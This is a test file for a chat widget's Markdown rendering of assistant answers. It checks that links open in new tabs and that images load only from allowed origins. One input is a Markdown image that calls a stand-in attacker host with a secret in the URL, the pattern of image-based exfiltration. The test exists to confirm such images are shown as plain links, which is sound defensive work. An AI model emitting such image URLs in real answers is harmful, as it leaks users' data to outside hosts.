import { expect } from '@open-wc/testing';
import { cannedService, serveHistory, serveNoHistory } from '../support/canned-history.ts';
import { mount, unmountAll, until, type Chat } from '../support/chat-fixture.ts';

/** Opens a chat whose assistant has said that. */
async function said(content: string, attributes: Readonly<Record<string, string>> = {}): Promise<Chat> {
  serveHistory([{ role: 'assistant', content }]);
  const chat = mount({ 'base-url': cannedService, lang: 'en', ...attributes });
  await chat.open();
  await until(() => chat.find('.markdown') !== null, 'the Markdown');
  return chat;
}

describe('links and images in an answer', () => {
  afterEach(async () => {
    serveNoHistory();
    await unmountAll();
  });

  it('say that they open in a new tab', async () => {
    const chat = await said('See [the table](https://example.com).');
    const link = chat.find('.markdown a') as HTMLAnchorElement;
    expect([link.target, link.title]).to.deep.equal(['_blank', 'opens in a new tab']);
    expect(link.innerText).to.equal('the table');
  });

  it('show from the origins that the site allows, described and late, and as links from others', async () => {
    const chat = await said(
      `![A pixel](${location.origin}/pixel.png) ![Another](https://evil.example/collect?secret=1)`,
      { 'allow-images': `nonsense ${location.origin}/` },
    );
    const images = chat.findAll('.markdown img') as HTMLImageElement[];
    expect(images.map(({ src, alt, loading }) => [src, alt, loading])).to.deep.equal([
      [`${location.origin}/pixel.png`, 'A pixel', 'lazy'],
    ]);
    expect(chat.find('.markdown a')?.innerText).to.equal('Another');
  });
});
